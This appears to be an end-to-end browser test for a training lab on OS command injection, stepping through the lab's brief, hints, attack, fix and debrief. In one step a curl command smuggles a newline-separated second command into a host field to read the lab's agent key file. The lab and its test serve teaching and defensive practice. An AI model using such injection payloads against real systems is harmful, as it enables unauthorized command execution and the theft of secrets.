import assert from "node:assert/strict";
import { after, before, describe } from "node:test";
import { launch, openPage } from "../../support/browser.js";
import { labFolder } from "../../support/labs.js";
import { stations } from "../../support/stations.js";
import { Workspace } from "../../support/workspace.js";

const lab = labFolder("a05-injection/os-command-injection-best-practices/lab-command-injection-best-practices");

describe("Command injection, with the terminal", () => {
  const station = stations();
  let browser;
  let page;
  let workspace;
  let flag;
  before(async () => {
    browser = await launch();
    page = await openPage(browser, { dark: true });
  });
  after(() => browser.close());

  station("opens from the list and says what is wanted", async () => {
    workspace = await Workspace.openFromList(page, "Command injection best practices");
    assert.match(await page.locator("#panel-brief").innerText(), /Read the agent's key and hand it in/);
    const reach = await workspace.preview();
    await reach.getByRole("heading", { name: "Can we see it from here?" }).waitFor();
    await workspace.screenshot("command-1-brief");
  });

  station("gives a hint and counts it", async () => {
    await page.getByRole("button", { name: "Show the first hint" }).click();
    await page.getByRole("heading", { name: "Hints (1 of 4)" }).waitFor();
    await page.getByText("Follow a host from the form to the program").waitFor();
    await workspace.screenshot("command-2-hint");
  });

  station("refuses a semicolon in the page's form", async () => {
    const reach = await workspace.preview();
    await reach.getByLabel("Host").fill("reach.test; id");
    await reach.getByRole("button", { name: "Check" }).click();
    await reach.getByText("A host has none of the characters").waitFor();
  });

  station("runs a second line that curl sends from the terminal", async () => {
    await workspace.untilPrompt();
    await workspace.type("curl -s http://reach.test/check -d kind=name --data-urlencode $'host=reach.test\\ncat \"$DATA_DIR/agent.key\"' | grep -A 3 '<pre'");
    flag = await workspace.untilTerminalShows(/FLAG\{\w+\}/);
    await workspace.screenshot("command-3-terminal");
  });

  station("takes the flag", async () => {
    await workspace.handInFlag(flag);
    await workspace.untilTaskDone(1);
    await page.locator(".step", { hasText: "2 Repair" }).and(page.locator('[aria-current="step"]')).waitFor();
    await workspace.screenshot("command-4-attack-done");
  });

  station("rejects a list of arguments that leaves the tool's options open", async () => {
    await workspace.writeFiles(await lab.repair("wrong-fixes/no-shell-options-left"));
    const verdict = await workspace.checkMyFix();
    assert.equal(verdict.accepted, false);
    assert.ok(verdict.checks.some(({ result }) => result === "passed"), "what holds is said too");
    for (const sentence of await lab.rejectedBecause("wrong-fixes/no-shell-options-left")) await workspace.seeReason(sentence);
    await workspace.screenshot("command-5-rejected");
  });

  station("accepts the repair", async () => {
    await workspace.writeFiles(await lab.repair("solution"));
    const verdict = await workspace.checkMyFix();
    assert.deepEqual(verdict.checks.filter(({ result }) => result !== "passed"), []);
    assert.equal(verdict.accepted, true);
    await workspace.untilTaskDone(2);
    await workspace.screenshot("command-6-accepted");
  });

  station("shows the debrief, and what the repair changed", async () => {
    const debrief = await workspace.openDebrief();
    await debrief.getByText("The flaw.").waitFor();
    const diff = debrief.getByRole("region", { name: "app/probes.py" });
    await diff.getByText("Yours is the same as the reference.").waitFor();
    await diff.getByLabel("What app/probes.py is compared with").selectOption({ label: "The original and yours" });
    const original = diff.getByRole("textbox", { name: "Original: app/probes.py" });
    const yours = diff.getByRole("textbox", { name: "Yours: app/probes.py" });
    await diff.evaluate((section) => section.scrollIntoView({ block: "start" }));
    assert.ok(await original.locator(".cm-changedLine").count() > 0);
    assert.ok(await yours.locator(".cm-changedLine").count() > 0);
    await workspace.screenshot("command-7-diff");
    assert.deepEqual(page.complaints, []);
  });
});
